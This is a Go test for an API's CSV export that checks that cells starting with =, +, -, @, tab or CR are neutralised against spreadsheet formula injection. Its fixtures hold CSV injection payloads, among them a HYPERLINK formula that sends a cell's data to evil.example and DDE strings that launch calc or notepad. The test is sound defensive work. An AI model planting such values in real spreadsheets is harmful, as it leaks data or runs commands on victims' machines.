package api_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
)

// TestProgressExportNeutralisesSpreadsheetFormulas: names and titles that
// people typed reach the organizer's spreadsheet as text. A cell that a
// spreadsheet would run as a formula (it starts with =, +, -, @, TAB or CR)
// is written quoted with a single quote in front, as OWASP advises against
// CSV injection; other cells are written as they are.
func TestProgressExportNeutralisesSpreadsheetFormulas(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	hostile := map[string]string{
		"participant": `=HYPERLINK("https://evil.example/?"&A1,"Klik")`,
		"mentor":      "@SUM(1+1)*cmd|' /C calc'!A0",
		"project":     "+1+cmd|' /C notepad'!'A1'",
		"group":       "-2+3",
		"other":       "\t=1+1",
		"otherMentor": "\r=2+2",
	}
	for _, set := range []struct{ sql, value, id string }{
		{`UPDATE users SET name = ? WHERE id = ?`, hostile["participant"], w.participant.ID.String()},
		{`UPDATE users SET name = ? WHERE id = ?`, hostile["mentor"], w.mentor.ID.String()},
		{`UPDATE projects SET title = ? WHERE id = ?`, hostile["project"], w.enrollment.ProjectID.String()},
		{`UPDATE enrollments SET group_name = ? WHERE id = ?`, hostile["group"], w.enrollment.ID.String()},
		{`UPDATE users SET name = ? WHERE id = ?`, hostile["other"], w.otherParticipant.ID.String()},
		{`UPDATE users SET name = ? WHERE id = ?`, hostile["otherMentor"], w.otherMentor.ID.String()},
		{`UPDATE projects SET title = ? WHERE id = ?`, "Antrean; Daring", w.otherEnrollment.ProjectID.String()},
	} {
		if _, err := w.db.Exec(set.sql, set.value, set.id); err != nil {
			t.Fatal(err)
		}
	}

	for _, sep := range []string{",", ";"} {
		res := expect(t, w.get("/v1/cohorts/"+w.cohortA.ID.String()+"/progress.csv?sep="+sep, w.tokenOf(roleOrganizer)), http.StatusOK)
		r := csv.NewReader(strings.NewReader(string(res.body)))
		r.Comma = rune(sep[0])
		records, err := r.ReadAll()
		if err != nil {
			t.Fatalf("sep %s: %v\n%s", sep, err, res.body)
		}
		cells := map[string]bool{}
		for _, rec := range records {
			for _, c := range rec {
				cells[c] = true
			}
		}
		for what, v := range hostile {
			if !cells["'"+v] {
				t.Errorf("sep %s: the %s %q is not exported as the text '%s:\n%s", sep, what, v, v, res.body)
			}
			if !strings.Contains(string(res.body), `"'`+strings.ReplaceAll(v, `"`, `""`)+`"`) {
				t.Errorf("sep %s: the %s %q is not written quoted", sep, what, v)
			}
		}
		if !cells["Antrean; Daring"] || !cells["Kelompok 2"] {
			t.Errorf("sep %s: harmless cells changed:\n%s", sep, res.body)
		}
	}
}
